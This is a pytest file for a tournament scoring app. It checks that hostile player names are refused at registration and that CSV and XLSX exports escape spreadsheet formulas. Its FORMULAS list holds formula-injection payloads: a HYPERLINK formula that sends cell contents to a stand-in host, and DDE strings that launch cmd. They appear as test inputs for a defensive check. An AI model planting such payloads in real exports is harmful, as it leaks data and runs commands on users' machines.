"""Hostile names through register, pair and export (issue 17, item 8), on SQLite and PostgreSQL.

Names are checked once, at registration, by the engine's one name rule
(``scorepad.rules.names``), the same as a match's: what registration takes,
``pair`` and ``export`` can always use. Names that are fine to show but start
a spreadsheet formula are written to the CSV and the XLSX so that no
spreadsheet runs them.
"""

from __future__ import annotations

import csv
import unicodedata
from pathlib import Path

import pytest
from openpyxl import load_workbook

from scorepad.tournament import TournamentError, TournamentService
from scorepad.tournament.exports import FORMULA_START, export_event, safe_cell

from .conftest import PASSWORD
from .helpers import new_event, play_round

FORMULAS = ['=HYPERLINK("//e.x/?"&B1,"ok")', '@SUM(1+1)*cmd|"/c calc"!A1', "+1+cmd|' /C calc'!A0", "-2+3"]


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("Ann\x1b[2J", "control character"),
        ("Bob\u202e", "cannot be shown"),
        ("\u2066Cy", "cannot be shown"),
        ("A" * 41, "at most 40"),
        ("\u3164", "blank"),
        ("  \u2800 ", "blank"),
        ("\u0301", "blank"),
        ("\ud800", "cannot be shown"),
    ],
)
def test_registration_refuses_a_name_pair_or_export_could_not_use(
    service: TournamentService, name: str, said: str
) -> None:
    event, director = new_event(service, ["Ann", "Bob"], rounds=1)
    with pytest.raises(TournamentError, match=said):
        service.register(director, event, [name])
    assert [s.name for s in service.standings(director, event)] == ["Ann", "Bob"]


@pytest.mark.parametrize("twin", ["ann", "ANN ", " Ann", "Ａｎｎ", "A\u200bnn"])
def test_a_name_already_registered_case_spaces_and_form_aside_is_refused(service: TournamentService, twin: str) -> None:
    event, director = new_event(service, ["Ann", "José"], rounds=1)
    if "\u200b" in twin:
        with pytest.raises(TournamentError, match="cannot be shown"):
            service.register(director, event, [twin])
        return
    with pytest.raises(TournamentError, match="already registered"):
        service.register(director, event, [twin])
    with pytest.raises(TournamentError, match="already registered"):
        service.register(director, event, [unicodedata.normalize("NFD", "José")])


def test_partners_alike_are_refused(service: TournamentService) -> None:
    event = service.create_event(name="Pairs", password=PASSWORD, rounds=1, kind="partners")
    director = service.login_director(event, PASSWORD)
    with pytest.raises(TournamentError, match="two partners are called"):
        service.register(director, event, ["Ann", "ann "])


def test_texts_of_a_tournament_are_limited(service: TournamentService) -> None:
    event, director = new_event(service, ["Ann", "Bob"], rounds=1)
    with pytest.raises(TournamentError, match="a club is 1000 characters long; at most 40"):
        service.register(director, event, ["Cy"], club="x" * 1000)
    with pytest.raises(TournamentError, match="the reason is 120000 characters long; at most 300"):
        service.forbid(director, event, "Ann", "Bob", "y" * 120_000)
    with pytest.raises(TournamentError, match="the reason holds a control character"):
        service.forbid(director, event, "Ann", "Bob", "family\x1b[2J")
    service.forbid(director, event, "Ann", "Bob", "  family   ties ")
    for name in ("\ud800", "Cup\x00", "x" * 81, " "):
        with pytest.raises(TournamentError, match="the event's name"):
            service.create_event(name=name, password=PASSWORD, rounds=1)
    with pytest.raises(TournamentError, match="not UTF-8"):
        service.create_event(name="Cup", password="long enough \udcff", rounds=1)


def test_formula_names_are_registered_paired_and_exported_as_plain_text(
    service: TournamentService, tmp_path: Path
) -> None:
    event, director = new_event(service, [], rounds=1)
    for name in FORMULAS:  # one name each ("+" would split new_event's into partners)
        service.register(director, event, [name])
    view = service.pair_round(director, event)
    play_round(service, event, view, hands=2)
    export_event(service, director, event, tmp_path, formats=["csv", "xlsx"])
    for file in ("standings.csv", "results.csv"):
        with (tmp_path / file).open(newline="", encoding="utf-8") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        for name in FORMULAS:
            if name != "-2+3":
                assert name not in cells and f"'{name}" in cells
        for cell in cells:
            assert not cell.startswith(FORMULA_START) or cell.lstrip("+-").isdigit() or cell[1:].isdigit(), cell
    book = load_workbook(tmp_path / "event.xlsx")
    spreads = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if sheet.title == "Results" and cell.column == 8 and cell.row > 1:
                    spreads.append(cell.value)
    # Spreads are numbers, negative ones included: a winner's spread is the loser's, negated.
    assert spreads and all(isinstance(v, int) for v in spreads) and any(v < 0 for v in spreads)


def test_safe_cell_keeps_numbers_and_marks_formulas() -> None:
    assert safe_cell(-5) == -5 and safe_cell(7) == 7 and safe_cell(None) is None
    assert safe_cell("-5") == "-5" and safe_cell("=3") == "=3"  # a number; the shared place three
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("-Ann") == "'-Ann" and safe_cell("@x") == "'@x"
    assert safe_cell("\tx") == "\\tx" and safe_cell("Ann\x1b") == "Ann\\x1b"  # escaped, no longer a tab
